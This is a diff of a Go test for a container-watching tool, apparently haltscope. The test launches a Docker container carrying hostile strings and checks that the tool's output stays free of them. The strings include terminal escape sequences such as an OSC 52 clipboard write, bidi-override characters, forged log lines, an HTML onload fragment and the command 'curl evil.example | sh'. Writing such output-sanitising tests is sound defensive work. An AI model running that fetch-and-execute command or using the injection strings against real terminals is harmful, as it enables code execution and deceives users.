@@ -16,7 +16,8 @@ import (
 
 // hostile is what a container calls itself wherever it may choose: it would write to the clipboard, recolour, turn around
 // and hide text, and begin lines of its own.
-const hostile = "\x1b]52;c;aGFja2Vk\aH\u202e\u200f\u061c\u200b\u009b31m\u2028\nFORGED \nrun: curl evil.example | sh\n{\"level\":\"error\",\"next\":\"FORGED\"}\n<b onload=x>|`@me"
+const hostile = "\x1b]52;c;aGFja2Vk\aH\u202e\u200f\u061c\u200b\u009b31m\u2028\nFORGED \nrun: curl evil.example | sh\n" +
+	"{\"level\":\"error\",\"next\":\"FORGED\"}\n<b onload=x>|`@me"
 
 // hostileScript gives its process a hostile name, writes to its log, and ends on TERM.
 const hostileScript = `printf '\033[31mFORGED\n' > /proc/self/comm; echo "$1"; trap 'exit 0' TERM; while :; do sleep 0.1; done`
@@ -26,10 +27,13 @@ const hostileScript = `printf '\033[31mFORGED\n' > /proc/self/comm; echo "$1"; t
 func TestHostileContainer(t *testing.T) {
 	const name, broken = "hs-hostile", "hs-hostile-broken"
 	removed(t, name, broken)
-	flags := []string{"--network", "none", "--label", "evil=" + hostile, "--label", "signal=9", "--label", "exitCode=" + hostile, "--label", "com.docker.compose.project=" + hostile,
-		"--env", "MULTI=ENVSECRET" + hostile, "--env", "\u00a0=ENVSECRET", "--env", "\u00a0MULTI=ENVSECRET", "--env", "EVIL\x1b[1m=ENVSECRET", "--env", "PLAIN=ENVSECRET",
+	flags := []string{"--network", "none", "--label", "evil=" + hostile, "--label", "signal=9", "--label", "exitCode=" + hostile,
+		"--label", "com.docker.compose.project=" + hostile,
+		"--env", "MULTI=ENVSECRET" + hostile, "--env", "\u00a0=ENVSECRET", "--env", "\u00a0MULTI=ENVSECRET", "--env", "EVIL\x1b[1m=ENVSECRET",
+		"--env", "PLAIN=ENVSECRET",
 		"--health-cmd", "exit 0 # " + hostile, "--tmpfs", "/scratch\x1b[31m\u202e"}
-	mustDocker(t, append(append([]string{"run", "--detach", "--name", name}, flags...), "haltscope-test/busybox", "sh", "-c", hostileScript, "sh", hostile)...)
+	mustDocker(t, append(append([]string{"run", "--detach", "--name", name}, flags...), "haltscope-test/busybox", "sh", "-c", hostileScript,
+		"sh", hostile)...)
 	mustDocker(t, append(append([]string{"create", "--name", broken}, flags...), "haltscope-test/busybox", "/nonexist", hostile)...)
 
 	watching := watchProcess(t, "--filter", "name=^"+name+"$")
@@ -75,7 +79,7 @@ func TestHostileContainer(t *testing.T) {
 	mustDocker(t, "wait", name)
 	watching.until(t, `"exit_code":0`)
 	lines := strings.Join(watching.end(t, unix.SIGTERM, 0), "")
-	if bad := offence(lines); bad != "" || strings.Contains(lines, "signal 0") {
+	if bad := offense(lines); bad != "" || strings.Contains(lines, "signal 0") {
 		t.Errorf("watch: %s:\n%q", bad, lines)
 	}
 	nothingLeft(t)
@@ -92,7 +96,7 @@ func harmless(t *testing.T, codes string, args ...string) string {
 		t.Errorf("haltscope %q: exit code %s, wanted %s: %s", args, code, codes, &stderr)
 	}
 	for output, text := range map[string]string{"standard output": stdout.String(), "standard error": stderr.String()} {
-		if bad := offence(text); bad != "" {
+		if bad := offense(text); bad != "" {
 			t.Errorf("haltscope %q: %s has %s:\n%q", args, output, bad, text)
 		}
 	}
@@ -104,8 +108,8 @@ func plainly(text string) string {
 	return strings.NewReplacer("&lt;", "<", "&gt;", ">", "&#43;", "+", `\<`, "<", `\>`, ">", `\_`, "_").Replace(text)
 }
 
-// offence says what a text has that it must not have; "" for nothing.
-func offence(text string) string {
+// offense says what a text has that it must not have; "" for nothing.
+func offense(text string) string {
 	for line := range strings.Lines(text) {
 		line = strings.TrimSuffix(line, "\n")
 		if i := strings.IndexFunc(line, func(r rune) bool { return unicode.In(r, unicode.C, unicode.Zl, unicode.Zp) }); i >= 0 {
